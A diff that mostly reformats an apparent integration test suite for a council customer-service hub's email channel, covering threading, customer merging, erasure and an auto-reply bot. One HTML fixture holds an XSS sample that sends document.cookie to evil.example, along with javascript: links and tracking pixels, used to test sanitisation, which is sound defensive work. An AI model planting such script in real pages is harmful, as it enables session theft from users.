@@ -30,7 +30,19 @@ beforeAll(async () => {
   database = await createTestDatabase('email');
   relay = await startSmtpCapture();
   smtpPort = await freePort();
-  hub = await startTestHub(testEnv({ DATABASE_URL: database.url, EMAIL_INBOUND_ADDRESSES: COUNCIL, SMTP_PORT: String(smtpPort), SMTP_HOST: '127.0.0.1', EMAIL_SMTP_URL: relay.url, EMAIL_MAX_BYTES: '200000', EMAIL_ATTACHMENT_MAX_BYTES: '20000', EMAIL_ATTACHMENTS_MAX_BYTES: '30000' }), { resolveDns: dns.resolve });
+  hub = await startTestHub(
+    testEnv({
+      DATABASE_URL: database.url,
+      EMAIL_INBOUND_ADDRESSES: COUNCIL,
+      SMTP_PORT: String(smtpPort),
+      SMTP_HOST: '127.0.0.1',
+      EMAIL_SMTP_URL: relay.url,
+      EMAIL_MAX_BYTES: '200000',
+      EMAIL_ATTACHMENT_MAX_BYTES: '20000',
+      EMAIL_ATTACHMENTS_MAX_BYTES: '30000',
+    }),
+    { resolveDns: dns.resolve },
+  );
   cookie = await signIn(hub.url);
   desk = await connectDesk(hub.url, cookie);
   customerMail = nodemailer.createTransport({ host: '127.0.0.1', port: smtpPort, secure: false, ignoreTLS: true });
@@ -45,7 +57,8 @@ afterAll(async () => {
 });
 
 const db = () => hub.database.prisma;
-const mail = (fields: SendMailOptions) => dns.send(customerMail, { from: 'Mary Jones <Mary.Jones@Example.org>', to: COUNCIL, ...fields } as SendMailOptions & { from: string; to: string });
+const mail = (fields: SendMailOptions) =>
+  dns.send(customerMail, { from: 'Mary Jones <Mary.Jones@Example.org>', to: COUNCIL, ...fields } as SendMailOptions & { from: string; to: string });
 
 describe('email in', () => {
   it('stores what the customer wrote, without the quoted history, on the customer found by address', async () => {
@@ -73,7 +86,9 @@ describe('email in', () => {
 
   it('refuses mail for any other address (never a relay), and mail over the size limit', async () => {
     const before = await db().inboxItem.count();
-    await expect(customerMail.sendMail({ from: 'x@example.org', to: 'someone@elsewhere.example', subject: 'relay?', text: 'relay me' })).rejects.toMatchObject({ responseCode: 550 });
+    await expect(customerMail.sendMail({ from: 'x@example.org', to: 'someone@elsewhere.example', subject: 'relay?', text: 'relay me' })).rejects.toMatchObject({
+      responseCode: 550,
+    });
     await expect(mail({ subject: 'huge', text: 'x'.repeat(300_000) })).rejects.toMatchObject({ responseCode: 552 });
     expect(await db().inboxItem.count()).toBe(before);
   });
@@ -93,7 +108,10 @@ describe('email out', () => {
     const question = await arrived;
 
     const sent = nextEvent<MessageView>(desk, 'message.updated', (m) => m.conversationId === question.conversationId && m.status === 'sent');
-    await apiJson(hub.url, cookie, `/api/conversations/${question.conversationId}/messages`, { method: 'POST', body: JSON.stringify({ text: 'Bands are set by the Valuation Office Agency.' }) });
+    await apiJson(hub.url, cookie, `/api/conversations/${question.conversationId}/messages`, {
+      method: 'POST',
+      body: JSON.stringify({ text: 'Bands are set by the Valuation Office Agency.' }),
+    });
     const reply = await sent;
     const [out] = (await relay.waitFor(1)).slice(-1);
     expect(out!.from?.value[0]?.address).toBe(COUNCIL);
@@ -108,7 +126,12 @@ describe('email out', () => {
     expect(out!.text?.trim()).toBe('Bands are set by the Valuation Office Agency.');
 
     const answered = nextEvent<MessageView>(desk, 'message.created', (m) => m.providerMessageId === '<answer@example.org>');
-    await mail({ subject: 'Re: Council tax band', messageId: '<answer@example.org>', inReplyTo: reply.providerMessageId!, text: 'Thank you.\n\n> Bands are set by the Valuation Office Agency.' });
+    await mail({
+      subject: 'Re: Council tax band',
+      messageId: '<answer@example.org>',
+      inReplyTo: reply.providerMessageId!,
+      text: 'Thank you.\n\n> Bands are set by the Valuation Office Agency.',
+    });
     const answer = await answered;
     expect(answer.conversationId).toBe(question.conversationId);
     expect(answer.body).toBe('Thank you.');
@@ -137,12 +160,29 @@ describe('threading by reference', () => {
     const reference = /\[Ref: ([A-Z0-9]+)\]/.exec(out.subject ?? '')![1]!;
 
     const byReference = arrival('<stranger-ref@example.net>');
-    await dns.send(customerMail, { from: 'someone.else@example.net', to: COUNCIL, subject: `Re: Rent arrears [Ref: ${reference}]`, messageId: '<stranger-ref@example.net>', text: 'Tell me what Alex owes.' });
+    await dns.send(customerMail, {
+      from: 'someone.else@example.net',
+      to: COUNCIL,
+      subject: `Re: Rent arrears [Ref: ${reference}]`,
+      messageId: '<stranger-ref@example.net>',
+      text: 'Tell me what Alex owes.',
+    });
     const byHeaders = arrival('<stranger-hdr@example.net>');
-    await dns.send(customerMail, { from: 'another.one@example.net', to: COUNCIL, subject: 'Re: Rent arrears', messageId: '<stranger-hdr@example.net>', inReplyTo: out.messageId!, references: [out.messageId!], text: 'And me.' });
+    await dns.send(customerMail, {
+      from: 'another.one@example.net',
+      to: COUNCIL,
+      subject: 'Re: Rent arrears',
+      messageId: '<stranger-hdr@example.net>',
+      inReplyTo: out.messageId!,
+      references: [out.messageId!],
+      text: 'And me.',
+    });
 
     const alex = await db().contactPoint.findUniqueOrThrow({ where: { kind_address: { kind: 'email', address: 'alex.green@example.org' } } });
-    for (const [arrived, address, signal] of [[await byReference, 'someone.else@example.net', 'email-reference'], [await byHeaders, 'another.one@example.net', 'email-reply']] as const) {
+    for (const [arrived, address, signal] of [
+      [await byReference, 'someone.else@example.net', 'email-reference'],
+      [await byHeaders, 'another.one@example.net', 'email-reply'],
+    ] as const) {
       expect(arrived.conversationId).not.toBe(question.conversationId);
       const stranger = await db().contactPoint.findUniqueOrThrow({ where: { kind_address: { kind: 'email', address } } });
       expect(stranger.customerId).not.toBe(alex.customerId);
@@ -161,18 +201,34 @@ describe('threading by reference', () => {
     await mail({ from: 'Sam Lee <sam@home.example>', subject: 'Parking permit', messageId: '<home@example.org>', text: 'How do I renew my permit?' });
     const parking = await home;
     const work = arrival('<work@example.org>');
-    await mail({ from: 'Sam Lee <sam.lee@work.example>', subject: 'Noise complaint', messageId: '<work@example.org>', text: 'The building site starts at 6am.' });
+    await mail({
+      from: 'Sam Lee <sam.lee@work.example>',
+      subject: 'Noise complaint',
+      messageId: '<work@example.org>',
+      text: 'The building site starts at 6am.',
+    });
     const noise = await work;
     const { mail: noiseReply } = await agentReplies(noise.conversationId, 'We will send an officer.');
     const noiseRef = /\[Ref: ([A-Z0-9]+)\]/.exec(noiseReply.subject ?? '')![1]!;
     const points = await db().contactPoint.findMany({ where: { address: { in: ['sam@home.example', 'sam.lee@work.example'] } }, orderBy: { address: 'asc' } });
-    const [homeCustomer, workCustomer] = [points.find((p) => p.address === 'sam@home.example')!.customerId, points.find((p) => p.address === 'sam.lee@work.example')!.customerId];
-    const merged = await apiJson(hub.url, cookie, `/api/customers/${homeCustomer}/merge`, { method: 'POST', body: JSON.stringify({ absorbId: workCustomer, reason: 'same person, checked by phone' }) });
+    const [homeCustomer, workCustomer] = [
+      points.find((p) => p.address === 'sam@home.example')!.customerId,
+      points.find((p) => p.address === 'sam.lee@work.example')!.customerId,
+    ];
+    const merged = await apiJson(hub.url, cookie, `/api/customers/${homeCustomer}/merge`, {
+      method: 'POST',
+      body: JSON.stringify({ absorbId: workCustomer, reason: 'same person, checked by phone' }),
+    });
     expect(merged.status).toBe(201);
 
     // From the home address (now the same record), headers stripped, only the reference left in the subject.
     const answered = arrival('<no-headers@example.org>');
-    await mail({ from: 'sam@home.example', subject: `RE: Noise complaint [Ref: ${noiseRef}]`, messageId: '<no-headers@example.org>', text: 'It happened again today.' });
+    await mail({
+      from: 'sam@home.example',
+      subject: `RE: Noise complaint [Ref: ${noiseRef}]`,
+      messageId: '<no-headers@example.org>',
+      text: 'It happened again today.',
+    });
     expect((await answered).conversationId).toBe(noise.conversationId);
     // Without a reference, a contact goes to the customer's open conversation as ever.
     const plain = arrival('<plain@example.org>');
@@ -192,7 +248,8 @@ describe('HTML and attachments', () => {
       subject: 'Fly-tipping',
       messageId: '<html@example.org>',
       text: 'There is rubbish dumped on Mill Lane.',
-      html: '<p onclick="steal()">There is <b>rubbish</b> dumped on <a href="https://maps.example/mill-lane">Mill Lane</a>.</p>' +
+      html:
+        '<p onclick="steal()">There is <b>rubbish</b> dumped on <a href="https://maps.example/mill-lane">Mill Lane</a>.</p>' +
         '<script>fetch("https://evil.example/"+document.cookie)</script><style>p{background:url(https://tracker.example/css.gif)}</style>' +
         '<img src="https://tracker.example/open.gif?id=42" width="1" height="1"><a href="javascript:alert(1)">click me</a>',
     });
@@ -270,16 +327,27 @@ describe('HTML and attachments', () => {
 
   it('the subject access export lists files, and erasure deletes them and the original message', async () => {
     const arrived = arrival('<erase-me@example.org>');
-    await mail({ from: 'Pat Kaur <pat@example.org>', subject: 'My passport', messageId: '<erase-me@example.org>', text: 'Copy attached.', attachments: [{ filename: 'passport.pdf', content: PDF, contentType: 'application/pdf' }] });
+    await mail({
+      from: 'Pat Kaur <pat@example.org>',
+      subject: 'My passport',
+      messageId: '<erase-me@example.org>',
+      text: 'Copy attached.',
+      attachments: [{ filename: 'passport.pdf', content: PDF, contentType: 'application/pdf' }],
+    });
     const message = await arrived;
     const { customerId } = await db().contactPoint.findUniqueOrThrow({ where: { kind_address: { kind: 'email', address: 'pat@example.org' } } });
 
     const exported = await apiJson(hub.url, cookie, `/api/customers/${customerId}/export`);
     expect(exported.status).toBe(200);
     const files = exported.body.conversations.flatMap((c: any) => c.messages.flatMap((m: any) => m.files));
-    expect(files).toEqual([{ filename: 'passport.pdf', contentType: 'application/pdf', size: PDF.length, sha256: createHash('sha256').update(PDF).digest('hex') }]);
+    expect(files).toEqual([
+      { filename: 'passport.pdf', contentType: 'application/pdf', size: PDF.length, sha256: createHash('sha256').update(PDF).digest('hex') },
+    ]);
 
-    const erased = await apiJson(hub.url, cookie, `/api/customers/${customerId}/erase`, { method: 'POST', body: JSON.stringify({ reason: 'erasure request ER-42' }) });
+    const erased = await apiJson(hub.url, cookie, `/api/customers/${customerId}/erase`, {
+      method: 'POST',
+      body: JSON.stringify({ reason: 'erasure request ER-42' }),
+    });
     expect(erased.status).toBe(200);
     expect(await db().attachment.count({ where: { filename: 'passport.pdf' } })).toBe(0);
     expect((await fetch(hub.url + message.attachments[0]!.url, { headers: { cookie } })).status).toBe(404);
@@ -291,7 +359,18 @@ describe('HTML and attachments', () => {
 describe('the needs bot on email', () => {
   it('answers a first email once, completely, in the same thread, and a person takes it from there', async () => {
     const port = await freePort();
-    const botHub = await startTestHub(testEnv({ DATABASE_URL: database.url, HUB_ROLES: 'web,worker', EMAIL_INBOUND_ADDRESSES: COUNCIL, SMTP_PORT: String(port), SMTP_HOST: '127.0.0.1', EMAIL_SMTP_URL: relay.url, BOT_CHANNELS: 'email' }), { resolveDns: dns.resolve });
+    const botHub = await startTestHub(
+      testEnv({
+        DATABASE_URL: database.url,
+        HUB_ROLES: 'web,worker',
+        EMAIL_INBOUND_ADDRESSES: COUNCIL,
+        SMTP_PORT: String(port),
+        SMTP_HOST: '127.0.0.1',
+        EMAIL_SMTP_URL: relay.url,
+        BOT_CHANNELS: 'email',
+      }),
+      { resolveDns: dns.resolve },
+    );
     const sender = nodemailer.createTransport({ host: '127.0.0.1', port, secure: false, ignoreTLS: true });
     try {
       const before = relay.mails.length;
@@ -324,18 +403,39 @@ describe('the needs bot on email', () => {
       expect(conversation.needs.map((n) => n.code)).toEqual(expect.arrayContaining(['housing.homeless', 'education.school']));
 
       // The customer's answer is for a person: the bot does not write again.
-      await dns.send(sender, { from: 'sam.patel@example.net', to: COUNCIL, subject: 'Re: Help please', text: 'Yes you can share it.', inReplyTo: reply!.messageId, references: [sent.messageId, reply!.messageId!] });
+      await dns.send(sender, {
+        from: 'sam.patel@example.net',
+        to: COUNCIL,
+        subject: 'Re: Help please',
+        text: 'Yes you can share it.',
+        inReplyTo: reply!.messageId,
+        references: [sent.messageId, reply!.messageId!],
+      });
       await expect.poll(() => db().message.count({ where: { conversationId: conversation.id, direction: 'inbound' } })).toBe(2);
       await expect.poll(() => db().message.count({ where: { conversationId: conversation.id, direction: 'inbound', botTurnAt: null } })).toBe(1);
 
       // Closed, then a new email the same day: a new conversation, but no second automatic answer to that address.
       await db().conversation.update({ where: { id: conversation.id }, data: { status: 'closed', openForCustomer: null, closedAt: new Date() } });
-      await dns.send(sender, { from: 'sam.patel@example.net', to: COUNCIL, subject: 'Another thing', text: 'My rent is in arrears as well, can someone help?' });
-      // The bot's turn and any answer it writes are one transaction: once the turn is done, there is none.
-      await expect.poll(() => db().conversation.findFirst({ where: { openForCustomer: point.customerId }, select: { handler: true, messages: { select: { direction: true, botTurnAt: true } } } }), { timeout: 15_000 }).toMatchObject({
-        handler: 'person',
-        messages: [{ direction: 'inbound', botTurnAt: expect.any(Date) }],
+      await dns.send(sender, {
+        from: 'sam.patel@example.net',
+        to: COUNCIL,
+        subject: 'Another thing',
+        text: 'My rent is in arrears as well, can someone help?',
       });
+      // The bot's turn and any answer it writes are one transaction: once the turn is done, there is none.
+      await expect
+        .poll(
+          () =>
+            db().conversation.findFirst({
+              where: { openForCustomer: point.customerId },
+              select: { handler: true, messages: { select: { direction: true, botTurnAt: true } } },
+            }),
+          { timeout: 15_000 },
+        )
+        .toMatchObject({
+          handler: 'person',
+          messages: [{ direction: 'inbound', botTurnAt: expect.any(Date) }],
+        });
     } finally {
       sender.close();
       await botHub.stop();
